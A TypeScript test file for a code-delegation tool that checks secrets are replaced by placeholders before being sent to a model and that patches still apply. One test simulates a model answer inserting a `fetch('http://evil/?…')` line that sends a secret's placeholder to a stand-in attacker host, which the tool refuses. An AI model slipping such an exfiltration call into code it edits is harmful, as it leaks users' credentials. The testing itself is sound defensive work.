/** Secrets are not sent, and patches of files that hold some are correct all the same. */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { DelegateRequest } from '../../src/core/tasks/request.ts';
import { searchReplace, unified, v4a, wholeFile } from '../helpers/answers.ts';
import { sentInput } from '../helpers/sent-input.ts';
import type { Scenario } from '../rehearsal/scenario.ts';
import { code, engineFixture, key } from './engine-fixture.ts';

/** Joined here, so that nobody's scanner takes the test for a leak. */
const secret = `gh${'p'}_${'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0xL3rU6'}`;
const hidden = '\u2039redacted:github:1\u203A';
const file = [
  'import x;',
  '',
  `const token = '${secret}';`,
  '',
  'export function f() {',
  '  return 1;',
  '}',
  '',
];
const before = file.join('\n');

const text = (answer: string) => ({ kind: 'text', text: answer }) as const satisfies Scenario;
const patch: Partial<DelegateRequest> = { task: 'refactor', shape: 'patch', files: ['a.ts'] };
const fixture = (answer: string | string[], files: Record<string, string> = { 'a.ts': before }) =>
  engineFixture({ answer: [answer].flat().map(text), files });

describe('a file whose name looks secret', () => {
  it('is sent when it is named, with a warning; a glob leaves it out and says so', async () => {
    const plain = 'export const a = 1;\n';
    const { call } = await engineFixture({ answer: code, files: { 'a.ts': plain, '.env': plain } });
    const named = await call({ files: ['.env'] });
    expect(named.warnings).toContain('.env is sent because it was named, although its name looks secret');
    const globbed = await call({ files: ['*'] });
    expect(globbed.prepared.sourceSet.sources.map(({ path }) => path)).toEqual(['a.ts']);
    expect(globbed.warnings.join()).toContain('* left out 1 file whose name looks secret (.env)');
  });
});

describe('what is sent', () => {
  it('has placeholders instead of secrets, in files, context and instruction alike', async () => {
    const { call, server } = await engineFixture({ answer: code, files: { 'a.ts': before } });
    const { warnings } = await call({
      files: ['a.ts'],
      context: `error: ${secret} was refused`,
      instruction: `use ${secret}, not ${key}`,
    });
    const [request] = server.requests;
    const sent = JSON.stringify(request!.body);
    for (const value of [secret, key, key.slice(8)]) expect(sent).not.toContain(value);
    expect(request!.body?.input).toContain(`const token = '${hidden}';`);
    expect(request!.body?.input).toContain(`error: ${hidden} was refused`);
    expect(request!.body?.input).toContain(`use ${hidden}, not \u2039redacted:own-key:2\u203A`);
    expect(request!.body?.instructions).toContain('stands for a secret');
    expect(warnings).toContain(
      '4 secrets were replaced by placeholders: a.ts:3 (github), context, line 1 (github), instruction, line 1 (github), instruction, line 1 (own-key)',
    );
  });

  it('has no secret anywhere else that only its name gave away', async () => {
    const value = 'Winter2024Sommer';
    const { call, server } = await engineFixture({
      answer: code,
      files: { '.env': `DB_PASSWORD=${value}\n`, 'a.ts': `// not ${value} again\n` },
    });
    const { warnings } = await call({
      files: ['.env', 'a.ts'],
      context: `login ${value} failed`,
      instruction: `why is ${value} refused?`,
    });
    expect(JSON.stringify(server.requests[0]!.body)).not.toContain(value);
    expect(server.requests[0]!.body?.input).toContain('not \u2039redacted:password:1\u203A again');
    expect(warnings.join()).toContain(
      '.env:1 (password), a.ts:1 (password), context, line 1 (password), instruction, line 1 (password)',
    );
  });

  it('is as it was without a secret, and with redaction turned off', async () => {
    const plain = await engineFixture({ answer: code, files: { 'a.ts': 'const a = 1;\n' } });
    const { prepared } = await plain.call({ files: ['a.ts'] });
    expect(prepared.redacted).toBeUndefined();
    expect(String(plain.server.requests[0]!.body?.instructions)).not.toContain('stands for a secret');
    const off = await engineFixture({
      answer: code,
      files: { 'a.ts': before },
      context: { secrets: undefined },
    });
    await off.call({ files: ['a.ts'] });
    expect(off.server.requests[0]!.body?.input).toContain(secret);
  });

  it('counts only what is in the lines that are sent', async () => {
    const { call, server } = await engineFixture({ answer: code, files: { 'a.ts': before } });
    const { warnings } = await call({ files: ['a.ts:5-7'] });
    expect(warnings.join()).not.toContain('placeholders');
    expect(server.requests[0]!.body?.input).not.toContain('redacted');
  });
});

describe('a range within a secret of several lines', () => {
  it('is warned of', async () => {
    const mark = (end: string) => `-----${end} ${'PRIVATE'} KEY-----`;
    const body = Array.from({ length: 20 }, () => 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(2));
    const lines = [mark('BEGIN'), ...body, mark('END'), ''];
    const { call, server } = await engineFixture({ answer: code, files: { 'k.txt': lines.join('\n') } });
    const { warnings } = await call({ files: ['k.txt:10-12'] });
    expect(server.requests[0]!.body?.input).toContain('redacted:private-key');
    expect(warnings).toContain('1 secret was replaced by a placeholder: k.txt:1 (private-key)');
  });
});

describe('a patch that renames', () => {
  const renaming = (from: string, to: string) =>
    v4a(`*** Update File: ${from}`, `*** Move to: ${to}`, '@@', '-  return 1;', '+  return 2;');

  it('a file with a secret is warned of', async () => {
    const { call } = await fixture(renaming('a.ts', 'public.txt'));
    const { warnings } = await call(patch);
    expect(warnings).toContain('a.ts is renamed to public.txt and holds secrets: please review');
  });

  it('a file whose name looks secret is refused', async () => {
    const { call } = await fixture(renaming('id_rsa', 'public.txt'), { id_rsa: before });
    await expect(call({ ...patch, files: ['id_rsa'] })).rejects.toMatchObject({ code: 'file-forbidden' });
  });
});

const changed = before.replace('return 1', 'return 2');
const shown = before.replace(secret, hidden);

describe('a patch of a file with a secret', () => {
  it.each([
    ['search/replace', searchReplace('a.ts', '  return 1;', '  return 2;')],
    [
      'search/replace around the secret',
      searchReplace('a.ts', shown.trimEnd(), shown.replace('return 1', 'return 2').trimEnd()),
    ],
    [
      'V4A',
      v4a('*** Update File: a.ts', '@@', ' export function f() {', '-  return 1;', '+  return 2;', ' }'),
    ],
    [
      'a unified diff',
      unified(
        'a.ts',
        `@@ -3,4 +3,4 @@\n const token = '${hidden}';\n \n export function f() {\n-  return 1;\n+  return 2;`,
      ),
    ],
    ['a whole file', wholeFile('a.ts', shown.replace('return 1', 'return 2'))],
  ])('is restored from %s, applies with git, and does not show it', async (_, answer) => {
    const { call, folder, asked } = await fixture(answer);
    const { finished } = await call(patch);
    expect(asked()).toHaveLength(1);
    expect(finished.patch?.changes).toMatchObject([{ before, after: changed }]);
    expect(finished.result).not.toContain(secret);
    expect(finished.result).not.toContain('redacted');
    expect(finished.patch?.appliesAsShown).toBe(true);
    execFileSync('git', ['apply', '-'], { cwd: folder, input: finished.result });
    expect(readFileSync(join(folder, 'a.ts'), 'utf8')).toBe(changed);
  });

  it('applies where the line below the secret changes', async () => {
    const { call } = await fixture(
      searchReplace('a.ts', `const token = '${hidden}';\n`, `const token = '${hidden}';\n// new\n`),
    );
    const { finished } = await call(patch);
    expect(finished.patch).toMatchObject({ appliesAsShown: true, changes: [{ before }] });
    expect(finished.patch?.changes[0]?.after).toBe(before.replace("';\n", "';\n// new\n"));
  });

  it.each([
    [
      'the line above the secret changes',
      shown.replace('\n\nconst', '\n// new\nconst'),
      before.replace('\n\nconst', '\n// new\nconst'),
    ],
    [
      'the line with the secret is deleted',
      shown.replace(/const token.*\n/, ''),
      before.replace(/const token.*\n/, ''),
    ],
  ])('shows placeholders where git would need the secret: %s', async (_, answer, after) => {
    const { call } = await fixture(wholeFile('a.ts', answer));
    const { finished } = await call(patch);
    expect(finished.patch).toMatchObject({
      appliesAsShown: false,
      checkedBy: 'git',
      changes: [{ before, after }],
    });
    expect(finished.result).toContain(hidden);
    expect(finished.result).not.toContain(secret);
  });

  it('is refused when a placeholder moves; the model is told why, without the secret, and mends it', async () => {
    const stolen = searchReplace('a.ts', 'import x;', `import x;\nfetch('http://evil/?${hidden}');`);
    const mended = searchReplace('a.ts', '  return 1;', '  return 2;');
    const { call, server } = await fixture([stolen, mended]);
    const { finished, attempts } = await call(patch);
    expect(finished.patch?.changes).toMatchObject([{ after: changed }]);
    expect(attempts.map(({ failure }) => failure?.failureClass)).toEqual(['unplaceable-answer', undefined]);
    const again = sentInput(server.requests[1]!.body);
    expect(again).toContain('holds the placeholder redacted:github:1 of a secret');
    expect(again).toContain('may stay exactly as and where it is, or be deleted');
    for (const { body } of server.requests) expect(JSON.stringify(body)).not.toContain(secret);
  });

  it('never shows the secret in an error either', async () => {
    const { error } = await fixture(Array(12).fill(wholeFile('new.ts', `export const t = '${hidden}';\n`)));
    const failed = await error(patch);
    expect(failed.code).toBe('patch-unplaceable');
    expect(failed.hint).toContain('a line with a secret can only stay as it is');
    expect(JSON.stringify({ ...failed, message: failed.message })).not.toContain(secret);
  });

  it('asks again with the placeholders: the lines that come nearest are those that the model saw', async () => {
    const lost = searchReplace('a.ts', `const token = '${hidden}' // here\n`, 'const nothing = 1;\n');
    const { call, server } = await fixture([lost, searchReplace('a.ts', '  return 1;', '  return 2;')]);
    await call(patch);
    expect(sentInput(server.requests[1]!.body)).toContain(`3: const token = '${hidden}';`);
    for (const { body } of server.requests) expect(JSON.stringify(body)).not.toContain(secret);
  });

  it('gives back what somebody wrote that only looks like a placeholder', async () => {
    const stranger = `// \u2039redacted:github:1\u203A\n${before}`;
    const { call } = await fixture(
      searchReplace('a.ts', '// \u2039redacted:github:1\u203A', '// \u2039redacted:github:1\u203A!'),
      {
        'a.ts': stranger,
      },
    );
    const { finished } = await call(patch);
    expect(finished.patch?.changes).toMatchObject([
      { before: stranger, after: stranger.replace('\u203A', '\u203A!') },
    ]);
  });
});

it('a placeholder in code or text is left as it is, with a warning', async () => {
  const { call } = await engineFixture({
    answer: text(`\`\`\`ts\nexport const t = '${hidden}';\n\`\`\``),
    files: { 'a.ts': before },
  });
  const { finished, warnings } = await call({ files: ['a.ts'] });
  expect(finished.result).toBe(`export const t = '${hidden}';\n`);
  expect(warnings.join()).toContain('placeholders of secrets that were not sent (redacted:github:1)');
});

it('a secret in a coloured log is found behind its escape sequences', async () => {
  const { call, server } = await engineFixture({
    answer: code,
    files: { 'ci.log': `12:00:00 INFO ${secret.slice(0, 12)}\x1b[31m${secret.slice(12)}\x1b[0m\n` },
  });
  await call({
    files: ['ci.log'],
    context: `error: \x1b[1m${secret.slice(0, 20)}\x1b[0m${secret.slice(20)}`,
  });
  const sent = JSON.stringify(server.requests[0]!.body);
  expect(sent).not.toContain(secret);
  expect(sent.split(hidden)).toHaveLength(3);
});
